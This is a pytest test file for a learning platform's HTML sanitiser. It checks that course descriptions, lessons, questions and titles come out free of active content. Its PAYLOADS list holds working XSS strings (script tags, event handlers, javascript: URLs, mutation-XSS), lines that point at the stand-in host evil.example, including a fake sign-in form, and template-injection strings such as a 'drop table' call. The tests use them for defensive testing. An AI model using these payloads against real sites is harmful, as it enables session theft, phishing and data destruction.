"""Hostile text from authors: what is kept can neither run, nor load, nor send, nor cover the page."""

import pytest
from bs4 import BeautifulSoup

import frappe

from smooth_lms.courses.rich_text import ATTRIBUTES, TAGS, clean
from tests.support.factories import make_course, make_lesson, make_question

PAYLOADS = [
	"<script>alert(1)</script>",
	"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"<img src='x' OnErRoR='alert(1)'>",
	"<svg onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
	"<a href='javascript:alert(1)'>x</a>",
	"<a href='JaVa\tScRiPt:alert(1)'>x</a>",
	"<a href='&#106;avascript:alert(1)'>x</a>",
	"<a href='data:text/html,<script>alert(1)</script>'>x</a>",
	"<a href='vbscript:msgbox(1)'>x</a>",
	"<iframe src='https://evil.example'></iframe>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
	"<object data='javascript:alert(1)'></object>",
	"<embed src='javascript:alert(1)'>",
	"<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
	"<meta http-equiv='refresh' content='0;url=https://evil.example'>",
	"<link rel=stylesheet href='https://evil.example/x.css'>",
	"<base href='https://evil.example/'>",
	"<style>body{display:none}</style>",
	"<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</div>",
	"<p style='background-image:url(https://evil.example/track)'>x</p>",
	"<details open ontoggle=alert(1)>x</details>",
	"<video><source onerror=alert(1)></video>",
	"<template><script>alert(1)</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
	"<p id='main' name='live' data-lesson='x' data-swap='y'>clobber</p>",
	"<!--><img src=x onerror=alert(1)-->",
	"<b><p></b><script>alert(1)//",
	"{{ frappe.db.sql('drop table x') }}",
	"{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_kept_is_harmless(payload):
	kept = clean(f"<p>before</p>{payload}<p>after</p>")
	for tag in BeautifulSoup(kept, "html5lib").body.find_all(True):
		assert tag.name in TAGS
		for name, value in tag.attrs.items():
			assert name in (*ATTRIBUTES["*"], *ATTRIBUTES.get(tag.name, ()))
			if name in ("href", "src"):
				assert value.split(":")[0] in ("https", "http", "mailto", "tel") or ":" not in value
			if name == "style":
				assert "url" not in value
				assert "position" not in value
	assert clean(kept) == kept, "a second cleaning finds nothing more"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_is_cleaned_wherever_authors_write(payload):
	course = make_course(lessons=0, description=payload)
	lesson = make_lesson(course.name, body=f"<p>Text</p>{payload}")
	question = make_question(course.name, question=f"<p>Text</p>{payload}")
	for html in (course.description, lesson.body, question.question):
		assert clean(html) == (html or "")


def test_what_lessons_need_is_kept():
	html = (
		'<h2>Title</h2><p style="text-align:center">A <strong>word</strong> and a '
		'<a href="https://example.com" rel="noopener" target="_blank">link</a></p><ol><li data-list="bullet">one</li></ol>'
		'<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table><img src="/files/a.png" alt="A">'
		"<pre>code &lt;b&gt;</pre><blockquote>said</blockquote>"
	)
	assert clean(html) == html


def test_markup_in_names_reaches_no_page_unescaped():
	from smooth_lms.portal.templating import environment

	assert environment().from_string("{{ title }}").render(title="<script>") == "&lt;script&gt;"
	course = make_course(title=f"<img src=x onerror=alert(1)> {frappe.generate_hash()}")
	assert not {"<", ">"} & set(course.name)
